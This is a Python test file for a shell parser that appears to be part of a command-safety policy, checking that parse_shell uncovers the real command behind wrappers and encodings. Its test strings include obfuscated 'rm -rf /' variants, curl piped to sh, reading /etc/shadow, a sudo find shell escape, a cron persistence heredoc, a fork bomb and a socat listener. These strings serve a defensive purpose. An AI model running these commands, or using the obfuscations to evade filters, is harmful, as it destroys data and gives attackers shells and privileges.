"""The tree-sitter-bash front end: what `parse_shell` says would run."""

from __future__ import annotations

import base64
import gzip

import pytest

from hazmat.policy.shell import parse_shell


def lines(text: str) -> list[str]:
    return [c.line for c in parse_shell(text).commands]


def test_pipelines_lists_subshells_and_substitution() -> None:
    got = lines("a=1 env X=2 bash -c 'rm -rf /' > /tmp/x 2>&1 | tee log && (cd /; ls $(whoami))")
    assert "rm -rf /" in got
    assert "tee log" in got and "cd /" in got and "whoami" in got
    p = parse_shell("curl -s x | sh")
    assert [c.name for c in p.pipelines[0]] == ["curl", "sh"]
    assert p.pipelines[0][1].pipe_in == "curl"


def test_redirections_and_heredocs() -> None:
    p = parse_shell("cat > /etc/cron.d/x <<EOF\n* * * * * root /tmp/x\nEOF\n")
    cat = p.commands[0]
    assert cat.redirects == [(">", "/etc/cron.d/x")]
    assert cat.stdin is not None and "/tmp/x" in cat.stdin
    assert "rm -rf /" in lines("cat <<EOF | sh\nrm -rf /\nEOF\n")
    assert "rm -rf /" in lines("sh <<< 'rm -rf /'")


@pytest.mark.parametrize(
    "text",
    [
        "echo cm0gLXJmIC8= | base64 -d | sh",
        'bash -c "$(echo cm0gLXJmIC8= | base64 --decode)"',
        "printf '\\x72\\x6d -rf /' | bash",
        "$'\\x72\\x6d' -rf /",
        "a=rm; b=/; $a -rf $b",
        "{rm,-rf,/}",
        "r\\m -rf /",
        '"r""m" -rf /',
        "echo '/ fr- mr' | rev | sh",
        "tr a-z n-za-m <<< 'ez -es /' | sh",
        "eval \"$(printf '\\162\\155 -rf /')\"",
        "echo 726d202d7266202f | xxd -r -p | bash",
        "echo "
        + base64.b64encode(gzip.compress(b"rm -rf /", mtime=0)).decode()
        + " | base64 -d | gunzip | sh",
        "env -i timeout 5 nohup sh -c 'rm -rf /'",
        "sudo -u root xargs -I{} sh -c 'rm -rf /'",
        "ssh host 'rm -rf /'",
    ],
)
def test_decoding_and_wrappers_reach_the_real_command(text: str) -> None:
    assert "rm -rf /" in lines(text), lines(text)


def test_ifs_and_globs() -> None:
    assert "cat /etc/shadow" in lines("cat${IFS}/etc/shadow")
    assert "/bin/cat /etc/shadow" in lines("/???/c?t /e?c/sh??ow")
    assert "rm -rf /*" in lines("rm -rf /*")  # a bare /* stays a glob of the root


def test_find_exec_and_sudo_mark_root() -> None:
    p = parse_shell("sudo find . -exec /bin/sh -p \\; -quit")
    inner = [c for c in p.commands if c.via == "find -exec"]
    assert inner and inner[0].argv == ["/bin/sh", "-p"] and inner[0].root


def test_python_and_other_code_is_collected() -> None:
    p = parse_shell("python3 -c 'import os; os.system(\"id\")'; perl -e 'exec \"/bin/sh\"'")
    langs = {lang for lang, _ in p.code}
    assert {"python", "perl"} <= langs
    p2 = parse_shell("python3 - <<EOF\nimport socket\nEOF\n")
    assert ("python", "import socket\n") in p2.code


def test_fork_bomb_is_noticed() -> None:
    assert parse_shell(":(){ :|:& };:").fork_bomb
    assert not parse_shell("f() { echo hi; }; f").fork_bomb


def test_bad_syntax_never_raises() -> None:
    p = parse_shell("echo 'unterminated | ((( ;; fi done")
    assert p.errors


def test_parser_is_reused() -> None:
    from hazmat.policy.shell import _parser

    assert _parser() is _parser()


def test_unquoted_variables_split_and_quoted_ones_do_not() -> None:
    p = parse_shell("C='curl -Ns telnet://h:1'; $C | sh; a='x y'; echo \"$a\"")
    argvs = [c.argv for c in p.commands]
    assert ["curl", "-Ns", "telnet://h:1"] in argvs
    assert ["echo", "x y"] in argvs


def test_at_jobs_and_adjacent_pieces() -> None:
    assert "rm -rf /" in lines("echo 'rm -rf /' | at now + 1 minute")
    p = parse_shell("socat file:`tty`,raw,echo=0 tcp-listen:4444")
    assert p.commands[-1].argv == ["socat", "file:`tty`,raw,echo=0", "tcp-listen:4444"]
